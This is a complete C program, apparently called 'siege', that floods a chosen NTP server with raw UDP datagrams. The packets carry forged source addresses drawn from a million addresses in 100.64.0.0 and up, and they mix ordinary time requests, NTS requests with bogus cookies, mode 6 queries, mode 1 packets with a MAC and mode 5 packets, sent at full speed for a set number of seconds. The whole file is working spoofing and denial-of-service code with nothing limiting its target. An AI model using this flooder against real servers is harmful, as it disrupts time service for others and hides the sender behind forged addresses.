/* Floods an NTP daemon with datagrams of a million forged sources, 100.64.0.0 and up, as fast as one core makes them:
 * of sixteen, eleven requests of time, two of NTS with cookies that are none, one each of mode 6, of mode 1 with a MAC
 * (which would make an association), and of mode 5.
 * usage: siege ADDRESS SECONDS     needs CAP_NET_RAW; prints how many it sent */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, SOURCES = 1000000, ROOM = 512 };

static uint64_t state = 0x9e3779b97f4a7c15u;
static uint64_t chance(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    return state ^= state << 17;
}

static void field(uint8_t **at, uint16_t type, uint16_t length)
{
    uint16_t head[2] = { htons(type), htons(length) };
    memcpy(*at, head, 4);
    for (int i = 4; i < length; i++)
        (*at)[i] = (uint8_t)chance();
    *at += length;
}

static size_t payload(uint8_t *p)
{
    uint8_t *end = p + 48;
    uint64_t transmit = chance();
    unsigned kind = chance() % 16;
    memset(p, 0, 48);
    p[0] = 0x23;
    memcpy(p + 40, &transmit, 8);
    if (kind == 0) {
        static const uint8_t readvar[12] = { 0x16, 2, 0, 1 };
        memcpy(p, readvar, 12);
        return 12;
    }
    if (kind == 1 || kind == 2) {
        field(&end, 0x0104, 36);
        field(&end, 0x0204, 104);
        field(&end, 0x0404, 40);
    } else if (kind == 3) {
        p[0] = 0x21;
        p[1] = 2;
        memset(end, 0, 20);
        end[3] = 1;
        memcpy(end + 4, &transmit, 8);
        end += 20;
    } else if (kind == 4)
        p[0] = 0x25, p[1] = 1;
    return (size_t)(end - p);
}

int main(int argc, char **argv)
{
    static uint8_t room[BATCH][ROOM];
    static struct mmsghdr batch[BATCH];
    static struct iovec parts[BATCH];
    struct sockaddr_in to = { .sin_family = AF_INET };
    struct timespec now, end;
    uint64_t sent = 0;
    if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: siege ADDRESS SECONDS\n");
        return 2;
    }
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        perror("siege: socket");
        return 1;
    }
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += atoi(argv[2]);
    for (;;) {
        for (int i = 0; i < BATCH; i++) {
            struct iphdr *ip = (struct iphdr *)room[i];
            struct udphdr *udp = (struct udphdr *)(ip + 1);
            size_t length = payload((uint8_t *)(udp + 1));
            memset(ip, 0, sizeof *ip + sizeof *udp);
            ip->version = 4;
            ip->ihl = 5;
            ip->ttl = 64;
            ip->protocol = IPPROTO_UDP;
            ip->saddr = htonl(0x64400000u + (uint32_t)(chance() % SOURCES));
            ip->daddr = to.sin_addr.s_addr;
            udp->source = htons((uint16_t)(1024 + chance() % 60000));
            udp->dest = htons(123);
            udp->len = htons((uint16_t)(sizeof *udp + length));
            parts[i].iov_base = room[i];
            parts[i].iov_len = sizeof *ip + sizeof *udp + length;
            batch[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1 };
        }
        int n = sendmmsg(s, batch, BATCH, 0);
        if (n > 0)
            sent += (uint64_t)n;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec))
            break;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
